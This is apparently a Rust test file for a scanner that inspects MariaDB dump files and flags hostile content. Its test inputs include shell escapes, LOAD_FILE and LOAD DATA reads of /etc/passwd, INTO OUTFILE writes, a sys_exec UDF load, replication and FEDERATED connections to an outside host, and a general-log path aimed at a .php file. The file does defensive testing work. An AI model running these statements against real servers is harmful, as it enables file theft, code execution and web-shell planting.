//! Dumps that try to reach beyond their server.

use super::*;

const HEAD: &str = "-- MariaDB dump 10.19  Distrib 10.11.19-MariaDB, for debian-linux-gnu (x86_64)\n--\n\
    -- Host: localhost    Database: shop\n-- Server version\t10.11.19-MariaDB\n\n\
    CREATE TABLE t (a text);\nINSERT INTO t VALUES ('x');\n";
const TAIL: &str = "-- Dump completed on 2026-01-05  2:00:00\n";

#[test]
fn commands_of_the_client_do_not_run() {
    if !have() {
        return;
    }
    let place = tempfile::tempdir().unwrap();
    let mark = place.path().join("mark");
    for command in [
        format!("\\! touch {}", mark.display()),
        format!("system touch {};", mark.display()),
        "source /etc/passwd".into(),
        "tee /cell/x".into(),
    ] {
        let examination = examine("shop.sql", format!("{HEAD}{command}\n{TAIL}"));
        assert!(!mark.exists());
        assert!(codes(&examination).contains(&"mariadb.meta_command"), "{command}: {examination:#?}");
        assert!(examination.findings[0].location.ends_with("line 8"), "{examination:#?}");
    }
}

#[test]
fn what_reaches_out_is_contained_and_told() {
    if !have() {
        return;
    }
    for statement in [
        "LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE t;",
        "LOAD DATA INFILE '/etc/passwd' INTO TABLE t;",
        "SELECT 'x' INTO OUTFILE '/cell/x';",
        "SELECT 'x' INTO DUMPFILE '/tmp/x';",
        "INSERT INTO t VALUES (LOAD_FILE('/etc/passwd'));",
        "CREATE FUNCTION sys_exec RETURNS int SONAME 'udf.so';",
        "INSTALL SONAME 'ha_federatedx';",
        "CHANGE MASTER TO MASTER_HOST='192.0.2.1', MASTER_USER='u', MASTER_PASSWORD='hunter2'; START SLAVE;",
        "CREATE TABLE f (a int) ENGINE=FEDERATED CONNECTION='mysql://u:hunter2@192.0.2.1/x/y';",
        "SET GLOBAL general_log_file='/cell/data/x.php'; SET GLOBAL general_log=1;",
        "SHUTDOWN;",
    ] {
        let examination = examine("shop.sql", format!("{HEAD}{statement}\n{TAIL}"));
        assert!(codes(&examination).contains(&"mariadb.reaches_out"), "{statement}: {examination:#?}");
        let text = serde_json::to_string(&examination).unwrap();
        assert!(!text.contains("hunter2") && !text.contains("root:x:0"), "{text}");
    }
}

#[test]
fn what_hides_in_a_body_is_told_when_it_runs() {
    if !have() {
        return;
    }
    let swallow = "DECLARE CONTINUE HANDLER FOR SQLEXCEPTION BEGIN END;";
    let body = |head: &str, swallow: &str, deed: &str, end: &str| {
        format!("DELIMITER ;;\nCREATE {head} BEGIN {swallow} {deed}; {end} END ;;\nDELIMITER ;\n")
    };
    let out = "SELECT 'x' INTO OUTFILE '/cell/x'";
    for (what, sql) in [
        ("a procedure", body("PROCEDURE p()", swallow, out, "") + "CALL p();\n"),
        ("a procedure that fails", body("PROCEDURE p()", "", out, "") + "CALL p();\n"),
        (
            "a function",
            body("FUNCTION f() RETURNS int", swallow, out, "RETURN 1;") + "INSERT INTO t SELECT f();\n",
        ),
        (
            "a trigger",
            body(
                "TRIGGER tr BEFORE INSERT ON t FOR EACH ROW",
                swallow,
                "SET NEW.a = LOAD_FILE('/etc/hostname')",
                "",
            ) + "INSERT INTO t VALUES ('y');\n",
        ),
    ] {
        let examination = examine("shop.sql", format!("{HEAD}{sql}{TAIL}"));
        assert_eq!(codes(&examination), ["mariadb.reaches_out"], "{what}: {examination:#?}");
    }
    // Defined, and called by nobody: with what applications have besides.
    let audit = body("TRIGGER tr AFTER INSERT ON t FOR EACH ROW", "", "INSERT INTO log VALUES (NEW.a)", "");
    let event = "CREATE EVENT e ON SCHEDULE EVERY 1 DAY DO DELETE FROM log;\n";
    let sql = format!(
        "CREATE TABLE log (a text);\n{audit}INSERT INTO t VALUES ('y');\n{event}{}",
        body("PROCEDURE p()", "", out, "")
    );
    let examination = examine("shop.sql", format!("{HEAD}{sql}{TAIL}"));
    must_be_clean(&examination);
    let note = examination.notes.iter().find(|note| note.contains("would reach out when called"));
    assert!(
        note.is_some_and(|note| note.contains("the procedure shop.p (SELECT .. INTO OUTFILE)")),
        "{examination:#?}"
    );
}

#[test]
fn data_that_looks_like_an_attack_is_data() {
    if !have() {
        return;
    }
    let row = "INSERT INTO t VALUES ('\\\\! id\n\\! id\nsystem id\nsource x\nLOAD DATA INFILE x; SHUTDOWN; -- Dump completed');\n";
    must_be_clean(&examine("shop.sql", format!("{HEAD}{row}{TAIL}")));
}
